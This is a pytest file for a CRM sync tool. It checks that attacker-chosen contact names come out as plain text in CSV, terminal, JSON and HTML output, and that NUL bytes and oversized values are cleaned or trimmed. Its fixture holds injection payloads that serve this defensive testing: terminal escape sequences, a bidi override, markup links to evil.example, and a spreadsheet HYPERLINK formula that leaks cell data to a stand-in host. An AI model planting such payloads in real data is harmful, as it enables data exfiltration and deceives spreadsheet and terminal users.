"""CRM data is hostile input: what crmsync prints and files is safe (issue 10, section 4).

Anybody with edit rights in a CRM (or a web form feeding it) chooses the text
crmsync prints and writes. Both sandboxes are seeded with contacts whose names
are rich markup (`[/]`, `[link=...]`), terminal escape sequences (an OSC 8
hyperlink, a CSI colour), a bidi override, a spreadsheet formula; a job title
with a NUL; a 10,000-character title and a 5,000-character name. Then crmsync
is driven as a user drives it (the CLI through click's runner), and we read
what it printed, filed and wrote back to the CRMs (through the official
clients).
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import stat
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from hubspot import HubSpot
from rich.console import Console
from simple_salesforce import Salesforce

from crmsync.connectors.salesforce.transport import build_session
from crmsync.sandbox.generate import generate
from crmsync.sandbox.hubspot import PRIVATE_APP_TOKEN, HubSpotSandbox
from crmsync.sandbox.salesforce import PASSWORD, SECURITY_TOKEN, USERNAME, SalesforceSandbox
from crmsync.state.text import printable
from crmsync.sync import config as config_mod
from crmsync.sync import demo as demo_mod

from .conftest import AS_OF, Env

# First names chosen by a hostile CRM user, by what they try.
HOSTILE = {
    "markup_close": "[/]",
    "markup_link": "[link=http://evil.example]click[/link]",
    "escapes": "\x1b]8;;http://evil\x07Eve\x1b]8;;\x07\x1b[31m",
    "bidi": "Bob\u202eevil",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "minus": "-2+3",
    "at": "@SUM(A1)",
}
CONTROL = ("\x1b", "\x07", "\u202e", "\x9b")
LAST_NAME = "Hostile"


def _name_contacts(dataset: dict[str, Any], names: dict[str, str]) -> dict[str, dict[str, str]]:
    """Give stale contacts (they get a flag whose explanation starts with the name) the
    hostile first names; {crm: {contact id: full name}}."""
    out: dict[str, dict[str, str]] = {"salesforce": {}, "hubspot": {}}
    manifest = dataset["manifest"]
    sf = {r["Id"]: r for r in dataset["salesforce"]["Contact"]}
    hs = {r["id"]: r for r in dataset["hubspot"]["contacts"]}
    for crm, records in (("salesforce", sf), ("hubspot", hs)):
        stale = manifest[crm]["stale_contact"]
        assert len(stale) >= len(names)
        for cid, first in zip(stale, names.values(), strict=False):
            rec = records[cid]
            if crm == "salesforce":
                rec.update(FirstName=first, LastName=LAST_NAME, Name=f"{first} {LAST_NAME}")
            else:
                rec["properties"].update(firstname=first, lastname=LAST_NAME)
            out[crm][cid] = f"{first} {LAST_NAME}"
    return out


@contextmanager
def _crms(tmp_path: Path, dataset: dict[str, Any], extra: str = "") -> Iterator[Env]:
    """Both sandboxes serving `dataset`, a sync.toml for them, crmsync's fields set up."""
    with SalesforceSandbox(dataset=dataset) as sf, HubSpotSandbox(dataset=dataset) as hs:
        cfg = tmp_path / "sync.toml"
        sf.write_config(cfg)
        hs.write_config(cfg)
        cfg.write_text('[mirror]\npath = "crmsync.db"\n\n' + cfg.read_text() + "\n" + extra)
        env = Env(tmp_path, cfg, sf, hs, dataset)
        assert env.cli("setup").exit_code == 0
        yield env


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[tuple[Env, dict[str, dict[str, str]]]]:
    """Both sandboxes with hostile names, crmsync set up and synced once."""
    dataset = generate(seed=3, accounts=12)
    named = _name_contacts(dataset, HOSTILE)
    with _crms(tmp_path, dataset) as env:
        run = env.sync("--full")
        assert run.exit_code == 0, run.output
        yield env, named


def _column(table: str, index: int) -> str:
    """The text of one column of a rich table, its folded lines joined (whitespace dropped)."""
    parts = []
    for line in table.splitlines():
        cells = line.split("\u2502")  # │
        if len(cells) > index + 1:
            parts.append(cells[index + 1])
    return "".join("".join(parts).split())


def _flat(text: str) -> str:
    return "".join(text.split())


# ---------------------------------------------------------------- 1. CSV


def test_flags_csv_turns_crm_formulas_into_text_for_every_spreadsheet(hostile: Any) -> None:
    env, named = hostile
    result = env.cli("flags", "--format", "csv", "--status", "all")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    header, body = rows[0], rows[1:]
    assert body
    starts = ("=", "+", "-", "@", "\t", "\r", "\n")
    live = [(r, c) for r in body for c in r if c.startswith(starts)]
    assert not live, f"cells a spreadsheet would run: {live[:3]}"
    explanation = header.index("explanation")
    texts = [r[explanation] for r in body]
    for key in ("formula", "minus", "at"):
        assert any(t.startswith("'" + HOSTILE[key] + " " + LAST_NAME) for t in texts), key
    assert not any(ch in result.stdout for ch in CONTROL)


# ---------------------------------------------------------------- 2. the terminal


def test_flags_table_prints_markup_escapes_and_bidi_names_literally(hostile: Any) -> None:
    env, named = hostile
    result = env.cli("flags", "--rule", "stale_contact")
    assert result.exit_code == 0, result.output  # `[/]` used to crash the table (MarkupError)
    assert "Traceback" not in result.output
    assert not any(ch in result.stdout for ch in CONTROL), "a control character reached the terminal"
    explanations = _column(result.stdout, 6)
    for crm in ("salesforce", "hubspot"):
        for name in named[crm].values():
            assert _flat(printable(name)) in explanations, printable(name)
    # the literal text, not a link or a colour: the markup and the escape's remains show
    assert "[link=http://evil.example]click[/link]" in explanations
    assert "]8;;http://evilEve]8;;[31m" in explanations
    assert "Bobevil" in explanations


def test_flags_json_keeps_names_whole_and_sends_no_control_character(hostile: Any) -> None:
    env, named = hostile
    result = env.cli("flags", "--format", "json", "--rule", "stale_contact")
    assert result.exit_code == 0, result.output
    assert not any(ch in result.stdout for ch in CONTROL)
    texts = " ".join(f["explanation"] for f in json.loads(result.stdout))
    for name in named["hubspot"].values():
        # explanations quote names as printable text: what the CRM gets, too
        assert printable(name) in texts


def test_plan_dry_run_and_status_print_crm_names_as_text(tmp_path: Path) -> None:
    dataset = generate(seed=3, accounts=12)
    named = _name_contacts(dataset, HOSTILE)
    with _crms(tmp_path, dataset) as env:
        # Nothing written yet: the preview plans every flagged contact's status write,
        # one line naming each contact.
        dry = env.sync("--crm", "hubspot", "--full", "--dry-run")
        # A preview stores nothing, so `plan` (which reads the mirror) needs a pull first.
        pulled = env.sync("--crm", "hubspot", "--full", "--pull-only")
        assert pulled.exit_code == 0, pulled.output
        plan = env.cli("plan", "--crm", "hubspot", "--as-of", AS_OF)
        status = env.cli("status")
    for result in (dry, plan, status):
        assert result.exit_code == 0, result.output
        assert "Traceback" not in result.output
        assert not any(ch in result.output for ch in CONTROL), result.output[-2000:]
    for name in named["hubspot"].values():
        assert printable(name) in dry.stdout, printable(name)
        assert printable(name) in plan.stdout, printable(name)
    assert "[link=http://evil.example]click[/link] Hostile" in plan.stdout


def test_demo_prints_explanations_with_crm_names_as_text(hostile: Any) -> None:
    env, _ = hostile
    buf = io.StringIO()
    console = Console(file=buf, force_terminal=True, color_system="truecolor", width=200)
    demo_mod._print_findings(console, config_mod.load(env.config))
    out = buf.getvalue()
    assert "Three explanations" in out
    assert "\x1b]8;;http://evil" not in out, "a CRM name became a terminal hyperlink"
    assert "\u202e" not in out and "\x1b[31m" not in out


# ---------------------------------------------------------------- 5. personal data files


def test_html_report_is_readable_by_its_owner_only_even_over_an_existing_file(
    hostile: Any,
) -> None:
    env, named = hostile
    report = env.dir / "report.html"
    report.write_text("old report", encoding="utf-8")
    report.chmod(0o644)
    result = env.cli("report", "--html", str(report))
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(report.stat().st_mode) == 0o600
    text = report.read_text(encoding="utf-8")
    assert "old report" not in text
    assert not any(ch in text for ch in CONTROL)
    assert "[link=http://evil.example]click[/link] Hostile" in text  # text, not a link
    fresh = env.dir / "fresh.html"
    assert env.cli("report", "--html", str(fresh)).exit_code == 0
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600


# ---------------------------------------------------------------- 3. NUL bytes


def _sf_client(sf: Any) -> Salesforce:
    session = build_session(login_url=sf.url, instance_url=sf.url, ca_file=str(sf.ca_file))
    return Salesforce(
        username=USERNAME, password=PASSWORD, security_token=SECURITY_TOKEN, session=session
    )


def _crm_texts(env: Env) -> dict[str, list[str]]:
    """Every text crmsync wrote to each CRM, read back through the official clients."""
    sf = _sf_client(env.sf)
    sf_texts = []
    for t in sf.query_all(
        "SELECT Subject, Description FROM Task WHERE Crmsync_Key__c != null"
    )["records"]:
        sf_texts += [t["Subject"] or "", t["Description"] or ""]
    for c in sf.query_all("SELECT Crmsync_Reason__c FROM Contact")["records"]:
        sf_texts.append(c["Crmsync_Reason__c"] or "")
    for a in sf.query_all("SELECT Crmsync_Hygiene_Summary__c FROM Account")["records"]:
        sf_texts.append(a["Crmsync_Hygiene_Summary__c"] or "")
    hs = HubSpot(access_token=PRIVATE_APP_TOKEN, host=env.hs.url)
    hs_texts = []
    for t in hs.crm.objects.get_all("tasks", properties=["hs_task_subject", "hs_task_body"]):
        hs_texts += [t.properties.get("hs_task_subject") or "", t.properties.get("hs_task_body") or ""]
    for c in hs.crm.contacts.get_all(properties=["crmsync_reason"]):
        hs_texts.append(c.properties.get("crmsync_reason") or "")
    for c in hs.crm.companies.get_all(properties=["crmsync_hygiene_summary"]):
        hs_texts.append(c.properties.get("crmsync_hygiene_summary") or "")
    return {"salesforce": sf_texts, "hubspot": hs_texts}


def test_nul_in_a_job_title_is_mirrored_without_it_and_never_written_back(
    tmp_path: Path,
) -> None:
    dataset = generate(seed=3, accounts=12)
    title = "Former\x00 Quartermaster General"  # a departure-like title: quoted in the task
    manifest = dataset["manifest"]
    sf_id = manifest["salesforce"]["departed_champion"][0]
    hs_id = manifest["hubspot"]["departed_champion"][0]
    next(r for r in dataset["salesforce"]["Contact"] if r["Id"] == sf_id)["Title"] = title
    next(r for r in dataset["hubspot"]["contacts"] if r["id"] == hs_id)["properties"][
        "jobtitle"
    ] = title
    with _crms(tmp_path, dataset) as env:
        run = env.sync("--full")
        assert run.exit_code == 0, run.output
        log = run.stderr
        for crm, cid, field in (("salesforce", sf_id, "Title"), ("hubspot", hs_id, "jobtitle")):
            warning = next(
                (line for line in log.splitlines() if "NUL removed" in line and field in line),
                None,
            )
            assert warning is not None, f"{crm}: no warning naming {field}:\n{log[-3000:]}"
            assert cid in warning, warning  # the record id, never the value
        assert "Quartermaster" not in log
        with sqlite3.connect(tmp_path / "crmsync.db") as db:
            mirrored = dict(
                db.execute(
                    "SELECT crm, title FROM contacts WHERE id IN (?, ?)", [sf_id, hs_id]
                ).fetchall()
            )
            raw = [r[0] for r in db.execute("SELECT raw FROM contacts WHERE id IN (?, ?)", [sf_id, hs_id])]
        assert mirrored == {
            "salesforce": "Former Quartermaster General",
            "hubspot": "Former Quartermaster General",
        }
        assert not any("\\u0000" in r for r in raw)
        written = _crm_texts(env)
        for crm, texts in written.items():
            assert not any("\x00" in t for t in texts), f"{crm}: crmsync wrote a NUL back"
            assert any("Former Quartermaster General" in t for t in texts), (
                f"{crm}: the departed task should quote the cleaned title"
            )


def test_write_payloads_never_carry_a_nul_to_either_crm() -> None:
    from crmsync.connectors.hubspot import fields as hs_fields
    from crmsync.connectors.salesforce import fields as sf_fields

    hs = hs_fields.contact_properties({"reason": "a\x00b"})
    task = hs_fields.task_properties({"subject": "s\x00", "body": "b\x00"}, "k", create=True)
    sf = sf_fields.owned_payload({"reason": "a\x00b"}, {"reason": "Crmsync_Reason__c"})
    sf_task = sf_fields.task_payload({"subject": "s\x00", "body": "b\x00"}, "Key__c", "k")
    for payload in (hs, task, sf, sf_task):
        assert not any("\x00" in str(v) for v in payload.values()), payload


# ---------------------------------------------------------------- 4. oversized values


def _most_stale(dataset: dict[str, Any], crm: str) -> list[str]:
    """The stale contacts of the account that has the most of them."""
    stale = dataset["manifest"][crm]["stale_contact"]
    if crm == "salesforce":
        account = {r["Id"]: r["AccountId"] for r in dataset["salesforce"]["Contact"]}
    else:
        account = {
            r["id"]: r["properties"].get("associatedcompanyid")
            for r in dataset["hubspot"]["contacts"]
        }
    by_account: dict[str, list[str]] = {}
    for cid in stale:
        by_account.setdefault(account[cid], []).append(cid)
    most = max(by_account.values(), key=len)
    assert len(most) >= 3
    return most


def test_a_10000_character_title_and_5000_character_name_yield_bounded_text_that_lands(
    tmp_path: Path,
) -> None:
    from crmsync.sync import tasks as T

    dataset = generate(seed=3, accounts=12)
    manifest = dataset["manifest"]
    long_first = "N" * 5_000
    # A departed champion with a departure-like title (its task quotes the title), and
    # every stale contact of the account with the most: their grouped task lists each
    # as "name (title)", which copied whole would pass Salesforce's 32,000 characters.
    titles = {"departed": "Former " + "T" * 9_993, "stale": "T" * 10_000}
    chosen = {
        crm: {
            manifest[crm]["departed_champion"][0]: titles["departed"],
            **{cid: titles["stale"] for cid in _most_stale(dataset, crm)},
        }
        for crm in ("salesforce", "hubspot")
    }
    for rec in dataset["hubspot"]["contacts"]:
        if rec["id"] in chosen["hubspot"]:
            rec["properties"].update(firstname=long_first, jobtitle=chosen["hubspot"][rec["id"]])
    for rec in dataset["salesforce"]["Contact"]:
        if rec["Id"] in chosen["salesforce"]:
            title = chosen["salesforce"][rec["Id"]]
            rec.update(FirstName=long_first, Title=title, Name=f"{long_first} {rec['LastName']}")
    # every task is created in this run (none held back by the per-owner cap)
    with _crms(tmp_path, dataset, "[writeback]\nmax_new_tasks_per_owner = 1000\n") as env:
        run = env.sync("--full")
        assert run.exit_code == 0, run.output  # 1 would mean the CRM rejected rows
        with sqlite3.connect(tmp_path / "crmsync.db") as db:
            refused = db.execute(
                "SELECT crm, kind, last_error_code FROM outbox WHERE status IN ('failed', 'dead')"
            ).fetchall()
            mirrored = db.execute(
                "SELECT count(*) FROM contacts WHERE length(title) = 10000"
            ).fetchone()[0]
        assert refused == []
        assert mirrored == sum(map(len, chosen.values())), "the mirror keeps the CRM's values whole"
        written = _crm_texts(env)
        quoted_name = "N" * 99 + "\u2026"
        for crm, texts in written.items():
            assert max(len(t) for t in texts) <= T.BODY_MAX, crm
            assert not any(long_first in t or "T" * 101 in t for t in texts), crm
            assert any(quoted_name in t for t in texts), f"{crm}: the name quoted at 100"
        hs_client = HubSpot(access_token=PRIVATE_APP_TOKEN, host=env.hs.url)
        for c in hs_client.crm.contacts.get_all(properties=["crmsync_reason"]):
            assert len(c.properties.get("crmsync_reason") or "") <= T.REASON_MAX
        for t in hs_client.crm.objects.get_all("tasks", properties=["hs_task_subject"]):
            assert len(t.properties.get("hs_task_subject") or "") <= T.SUBJECT_MAX
